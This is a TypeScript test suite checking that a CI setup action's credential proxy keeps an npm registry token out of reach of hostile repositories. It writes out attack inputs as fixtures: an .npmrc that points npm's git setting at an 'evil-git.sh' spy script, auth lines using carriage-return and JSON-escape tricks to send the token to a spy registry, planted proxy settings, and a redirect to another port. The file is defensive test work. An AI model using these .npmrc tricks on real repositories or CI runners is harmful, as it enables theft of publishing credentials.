import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as path from 'node:path';
import { describe, it } from 'node:test';
import { issueInterceptionCertificates } from '../src/token/certificate-authority.js';
import { docsProgram, failureOf, runSetup, withSandbox, type Sandbox } from './support/e2e.js';
import { findSecret } from './support/secret-scan.js';
import { useHttpServer, useRegistry, type HttpServer } from './support/servers.js';

// The attacker of issue 18 against the bundled action: files of the repository (a program's .npmrc, package.json)
// that made npm send the token elsewhere while npm held it. With the credential proxy no npm process holds it, so
// each attack here passes only when the spy it aims at gets nothing.
const testAuthority = issueInterceptionCertificates('localhost');
const registry = await useRegistry({ tls: { cert: testAuthority.hostCertificatePem, key: testAuthority.hostKeyPem } });
const TOKEN = registry.tokens.ci;

interface Seen {
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
}

/** A server that records every request and answers it with `answer` (default: forwards it to the registry in clear). */
async function recorder(answer?: http.RequestListener): Promise<HttpServer & { seen: Seen[]; sawToken(): boolean }> {
  const seen: Seen[] = [];
  const server = await useHttpServer((request, response) => {
    seen.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers });
    (answer ?? forwardTo(registry.url))(request, response);
  });
  return { ...server, seen, sawToken: () => JSON.stringify(seen).includes(TOKEN) };
}

/** Forwards a request (origin or absolute form) to the same path on `base`, headers and all, Host made the target's. */
function forwardTo(base: string, host?: (request: http.IncomingMessage) => string): http.RequestListener {
  return (request, response) => {
    const target = new URL(new URL(request.url ?? '/', 'http://placeholder').pathname + new URL(request.url ?? '/', 'http://placeholder').search, base);
    const headers = { ...request.headers, host: host?.(request) ?? target.host };
    const outgoing = http.request(target, { method: request.method, headers }, (answer) => {
      response.writeHead(answer.statusCode ?? 502, answer.headers);
      answer.pipe(response);
    });
    outgoing.on('error', () => response.destroy());
    request.pipe(outgoing);
  };
}

const hostOf = (url: string) => new URL(url).host;

async function writeFiles(sandbox: Sandbox, files: Record<string, string>): Promise<void> {
  for (const [file, text] of Object.entries(files)) fs.writeFileSync(path.join(sandbox.workspace, file), text, { mode: 0o755 });
}

describe('the token never leaves the credential proxy but for the routed registry', () => {
  it("attack 1: npm's git setting runs a program of the repository's, which finds no token", async () => {
    const dump = fs.mkdtempSync(path.join(path.dirname(registry.storageDir), 'git-spy-'));
    const spy = fileURLPath('./fixtures/token-spy.cjs');
    await withSandbox({ '.': { ...docsProgram, dependencies: { ...docsProgram.dependencies, tool: 'git+file:///nonexistent/tool.git' } } }, async (sandbox) => {
      await writeFiles(sandbox, {
        '.npmrc': 'git=./evil-git.sh\n',
        'evil-git.sh': `#!/bin/sh\nnode ${JSON.stringify(spy)} evil-git\nexit 1\n`,
      });
      const run = await runSetup(registry, sandbox, { inputs: { policy: 'off' }, env: { SPY_DUMP: dump } });
      try {
        assert.ok(
          fs.readdirSync(dump).some((name) => name.startsWith('evil-git-')),
          `npm ran evil-git.sh: ${run.main.log}`,
        );
        const hits = await findSecret(TOKEN, { dirs: [dump] });
        assert.deepEqual(
          hits.map((hit) => hit.where),
          [],
          'no environment, command line or file evil-git.sh could read holds the token',
        );
      } finally {
        await run.cleanup();
        fs.rmSync(dump, { recursive: true, force: true });
      }
    });
  });

  describe('attack 2: a program .npmrc that npm reads as giving the token to the spy registry', () => {
    const variants: Array<[string, (spyHost: string) => string]> = [
      ['a lone carriage return before the auth line', (host) => `\r//${host}/:_authToken=\${PULUMI_ACCESS_TOKEN}\n`],
      ['a key with a JSON escape', (host) => `"//${host}/:\\u005fauthToken"=\${PULUMI_ACCESS_TOKEN}\n`],
      ['a value with a JSON escape', (host) => `//${host}/:_authToken="\\u0024{PULUMI_ACCESS_TOKEN}"\n`],
    ];
    for (const [name, authLine] of variants) {
      it(name, async () => {
        const spy = await recorder();
        await withSandbox(undefined, async (sandbox) => {
          await writeFiles(sandbox, { '.npmrc': `registry=${spy.url}\n${authLine(hostOf(spy.url))}` });
          // The project's registry= is npm's default registry only when no NPM_CONFIG_REGISTRY outranks it.
          const run = await runSetup(registry, sandbox, { inputs: { policy: 'error' }, env: { NPM_CONFIG_REGISTRY: undefined } });
          try {
            assert.equal(run.main.exitCode, 0, run.main.log);
            assert.ok(
              spy.seen.some((request) => request.url.includes('fixture-utils')),
              `npm asked the spy for the unscoped package: ${JSON.stringify(spy.seen.map((request) => request.url))}`,
            );
            assert.equal(spy.sawToken(), false, 'the spy registry never got the token');
          } finally {
            await run.cleanup();
            await spy.stop();
          }
        });
      });
    }
  });

  it('attack 3: a committed proxy setting is an error before any install, and the spy proxy gets nothing', async () => {
    const spyProxy = await recorder();
    await withSandbox(undefined, async (sandbox) => {
      await writeFiles(sandbox, { '.npmrc': `proxy=${spyProxy.url}\nhttps-proxy=${spyProxy.url}\n` });
      const run = await runSetup(registry, sandbox);
      try {
        assert.equal(run.main.exitCode, 1, run.main.log);
        assert.equal(
          failureOf(run.main),
          `${path.join(sandbox.workspace, '.npmrc')} sets "https-proxy" to ${spyProxy.url}: the repository may not choose the install's proxy. ` +
            'Remove it: the action installs through a proxy of its own, which adds the token for registry-url alone. ' +
            "A runner's own proxy goes in its user config or HTTPS_PROXY.",
        );
        assert.doesNotMatch(run.main.log, /\[command\]\S*npm (install|ci|link)/, 'no install ran');
        assert.deepEqual(spyProxy.seen, [], 'the spy proxy saw no request');
      } finally {
        await run.cleanup();
      }
    });
  });

  it("attack 7: a 302 from the routed registry to another port carries no token; the registry's own requests do", async () => {
    const spy = await recorder((request, response) => {
      // Serves the tarball the redirect asked for, fetched with the test's own credentials.
      http.get(new URL(request.url ?? '/', registry.url), { headers: { authorization: `Bearer ${TOKEN}` } }, (answer) => {
        response.writeHead(answer.statusCode ?? 502, answer.headers);
        answer.pipe(response);
      });
    });
    const front = await recorder((request, response) => {
      if (request.url?.endsWith('.tgz')) response.writeHead(302, { location: new URL(request.url, spy.url).href }).end();
      else forwardTo(registry.url, (incoming) => incoming.headers.host ?? '')(request, response);
    });
    await withSandbox(undefined, async (sandbox) => {
      const run = await runSetup(registry, sandbox, { inputs: { 'registry-url': front.url } });
      try {
        assert.equal(run.main.exitCode, 0, run.main.log);
        const tarballs = spy.seen.filter((request) => request.url.endsWith('.tgz'));
        assert.ok(tarballs.length > 0, 'npm followed the redirects to the other port');
        assert.deepEqual(
          tarballs.map((request) => request.headers.authorization),
          tarballs.map(() => undefined),
          'no redirected request carried an Authorization header',
        );
        const packuments = front.seen.filter((request) => request.url.startsWith('/@pulumi'));
        assert.ok(
          packuments.length > 0 && packuments.every((request) => request.headers.authorization === `Bearer ${TOKEN}`),
          'the proxy authorised the registry',
        );
      } finally {
        await run.cleanup();
        await Promise.all([spy.stop(), front.stop()]);
      }
    });
  });
});

describe('an https registry, intercepted by the proxy with its per-run authority', () => {
  const authorityFile = path.join(path.dirname(registry.storageDir), 'test-authority.pem');
  fs.writeFileSync(authorityFile, testAuthority.authorityPem);
  const cases: Array<[string, Record<string, string>]> = [
    ['the runner trusts its registry through NODE_EXTRA_CA_CERTS', { NODE_EXTRA_CA_CERTS: authorityFile }],
    ["the runner's npm config sets cafile, which replaces the roots", { NODE_EXTRA_CA_CERTS: authorityFile, NPM_CONFIG_CAFILE: authorityFile }],
  ];
  for (const [name, env] of cases) {
    it(`installs, and the lockfile names the registry, not the proxy: ${name}`, async () => {
      const httpsUrl = registry.httpsUrl!;
      await withSandbox(undefined, async (sandbox) => {
        const run = await runSetup(registry, sandbox, { inputs: { 'registry-url': httpsUrl }, env });
        try {
          assert.equal(run.main.exitCode, 0, run.main.log);
          const proxyUrl = /The credential proxy listens on (http:\/\/127\.0\.0\.1:\d+)/.exec(run.main.log)?.[1];
          assert.ok(proxyUrl, run.main.log);
          const lockfile = fs.readFileSync(path.join(sandbox.workspace, 'package-lock.json'), 'utf8');
          const resolved = [...lockfile.matchAll(/"resolved": "([^"]+)"/g)].map((match) => match[1]!);
          const scoped = resolved.filter((url) => url.includes('/@pulumi/'));
          assert.ok(scoped.length > 0 && scoped.every((url) => url.startsWith(httpsUrl)), resolved.join('\n'));
          assert.ok(!lockfile.includes(hostOf(proxyUrl)), 'the lockfile never names the proxy');
          assert.ok(fs.existsSync(path.join(sandbox.workspace, 'node_modules/@pulumi/aws/package.json')));
        } finally {
          await run.cleanup();
        }
      });
    });
  }
});

describe('a runner behind its own proxy', () => {
  it("the credential proxy forwards through the proxy the runner's npm config names", async () => {
    const corporate = await recorder((request, response) => forwardTo(request.url ?? '', (incoming) => incoming.headers.host ?? '')(request, response));
    await withSandbox(undefined, async (sandbox) => {
      const run = await runSetup(registry, sandbox, { env: { npm_config_proxy: corporate.url } });
      try {
        assert.equal(run.main.exitCode, 0, run.main.log);
        assert.ok(
          corporate.seen.some((request) => request.url.includes('/@pulumi')),
          "the scope came through the runner's proxy",
        );
      } finally {
        await run.cleanup();
      }
    });
  });
});

function fileURLPath(relative: string): string {
  return new URL(relative, import.meta.url).pathname;
}
